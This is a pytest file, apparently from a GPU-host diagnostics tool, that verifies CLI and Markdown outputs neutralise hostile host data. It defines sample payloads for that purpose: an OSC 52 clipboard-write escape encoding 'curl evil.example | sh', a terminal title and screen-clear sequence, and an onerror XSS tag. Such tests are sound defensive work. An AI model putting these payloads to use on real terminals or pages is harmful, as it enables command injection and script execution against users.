"""Nothing from an inspected host reaches the operator raw (issue 19, item 3).

A fake host whose ``nvidia-smi`` and ``/etc/os-release`` print the issue's payloads — an OSC 52
clipboard write, a title change and a screen clear, HTML that runs script on a forge, a
``</details>`` and a backtick fence — goes through the real probe; every CLI output that shows
or writes its text (``probe --json``, ``diagnose --json``/``--markdown``, ``transcript show``,
``transcript export --format md``) is checked for raw control characters, and the Markdown
ones are parsed by a real CommonMark parser (markdown-it, Rich's) for live HTML.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml
from markdown_it import MarkdownIt

from tui.cli import main
from tui.core.locations import sessions_dir
from tui.core.md_safe import md_code, md_fence, md_text
from tui.core.records.issue_report import issue_report
from tui.core.redact import redact, redact_text, visible
from tui.demo.fakehost import build_fake_host, reference_ct200

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # "curl evil.example | sh"
TITLE = "\x1b]0;PWNED-TITLE\x07\x1b[2J"
HTML = '<img src=x onerror="alert(1)">'
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")  # tab and newline may stay
# the only HTML a report writes itself
OWN_HTML = re.compile(r"^(<details>|</details>|<summary>[^<>]*</summary>)?$")


def test_escape_sequences_and_control_characters_are_made_visible() -> None:
    assert visible(CLIPBOARD) == "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␛\\"
    assert visible(TITLE) == "␛]0;PWNED-TITLE␇␛[2J"
    assert visible("a\x00b\x7fc\x9bd\u202ee") == "a␀b␡c<U+009B>d<U+202E>e"
    assert visible("line\r\nnext\rover\ttab") == "line\r\nnext␍over\ttab"
    # the one redaction path does it for text and for every string of a value
    assert redact_text(f"HF_TOKEN=hf_{'a' * 30} {TITLE}") == "HF_TOKEN=*** ␛]0;PWNED-TITLE␇␛[2J"
    assert redact({"gpus": [{"name": TITLE}]}) == {"gpus": [{"name": visible(TITLE)}]}


def test_markdown_helpers_keep_remote_values_text() -> None:
    assert md_text(f"{HTML}</details>&") == (
        '&lt;img src=x onerror="alert(1)"&gt;&lt;/details&gt;&amp;'
    )
    assert md_code("a`b") == "``a`b``" and md_code("`x") == "`` `x ``"
    assert md_fence(["```", "x"]) == "````" and md_fence(["plain"]) == "```"


def html_tokens(markdown: str) -> list[str]:
    """Every piece of raw HTML a CommonMark renderer would pass through."""
    out: list[str] = []
    for token in MarkdownIt("commonmark").parse(markdown):
        if token.type == "html_block":
            out.append(token.content)
        for child in token.children or ():
            if child.type == "html_inline":
                out.append(child.content)
    return out


def assert_safe_markdown(markdown: str) -> None:
    assert not RAW.search(markdown), repr(RAW.search(markdown))
    for html in html_tokens(markdown):
        for line in html.splitlines():
            assert OWN_HTML.match(line), html


def test_a_report_of_hostile_values_has_no_html_but_its_own() -> None:
    host = {
        "host": f"ct200{HTML}",
        "reachable": True,
        "error": None,
        "unseen": [f"probe step {HTML}`"],
        "facts": {
            "host": {"os_pretty": f"Ubuntu</details>{HTML}\n```\n<script>x</script>"},
            "gpus": [{"name": f"NVIDIA {HTML}", "compute_cap": "12.0"}],
            "container": {},
        },
        "findings": [
            {
                "id": "flashinfer-arch-rejected",
                "severity": "critical",
                "title": f"FlashInfer {HTML}",
                "explanation": f"CUDA_HOME=</details>{HTML}",
                "evidence": [f"nvcc at /opt/`{HTML}`"],
                "python": f"/opt/{HTML}/python3",
                "fixes": [],
            }
        ],
        "flashinfer": [
            {
                "python": "/p",
                "version": f"0.6.8{HTML}",
                "check_cuda_arch": "fail",
                "warnings": [f"</details>{HTML}", "````"],
            }
        ],
    }
    event = {"kind": "fix-outcome", "host": HTML, "fix": "x", "applied": False, "error": HTML}
    report = issue_report([host], [event])
    assert_safe_markdown(report)
    assert "onerror" in report  # still there to read, as text


@pytest.fixture
def hostile_inventory(tmp_path: Path) -> Path:
    fake = build_fake_host(tmp_path / "ct200 root", reference_ct200(with_cuda13=True))
    smi = fake.root / "usr/share/detective-tui-fake/nvidia-smi"
    for name in ("query", "all"):  # the query call and the probe's one call of all fields
        query = (smi / f"{name}.out").read_text().splitlines()
        query[0] = query[0].replace("Server Edition", f"Server Edition {TITLE}{HTML}")
        (smi / f"{name}.out").write_text("\n".join(query) + "\n")
    (smi / "table.out").write_text(CLIPBOARD + TITLE + (smi / "table.out").read_text())
    release = fake.root / "etc/os-release"
    pretty = f"Ubuntu 22.04.5 LTS{CLIPBOARD}</details>{HTML}```"
    release.write_text(release.read_text().replace("Ubuntu 22.04.5 LTS", pretty))
    entry = {"name": "ct200", "local": True, "root": str(fake.root), "env": fake.env}
    entry.update(python=list(fake.pythons), simulate="tree")  # its nvidia-smi may run
    inv = tmp_path / "hosts.yaml"
    inv.write_text(yaml.safe_dump({"hosts": [entry]}))
    return inv


def test_every_cli_output_of_a_hostile_host_is_inert(
    hostile_inventory: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    inv = str(hostile_inventory)
    main(["probe", "ct200", "--json", "--hosts", inv])
    probed = capsys.readouterr().out
    (host,) = json.loads(probed)
    gpu = host["facts"]["gpus"][0]["name"]
    assert "␛]0;PWNED-TITLE␇␛[2J" in gpu  # the facts keep the text, visible
    main(["diagnose", "ct200", "--json", "--hosts", inv])
    diagnosed = capsys.readouterr().out
    main(["diagnose", "ct200", "--markdown", "--hosts", inv])
    report = capsys.readouterr().out
    assert "onerror" in report and "PWNED-TITLE" in report
    assert_safe_markdown(report)
    for text in (probed, diagnosed):
        assert not RAW.search(json.dumps(json.loads(text), ensure_ascii=False))
    sessions = sorted(sessions_dir().glob("*.jsonl"))
    assert sessions
    for session in sessions:
        assert main(["transcript", "export", str(session), "--format", "md"]) == 0
        exported = capsys.readouterr().out
        assert_safe_markdown(exported)
        assert main(["transcript", "show", str(session)]) == 0
        assert not RAW.search(capsys.readouterr().out)
    shown = "".join(s.read_text() for s in sessions)
    assert "PWNED-TITLE" in shown and "\\u001b" not in shown  # recorded visible, not raw
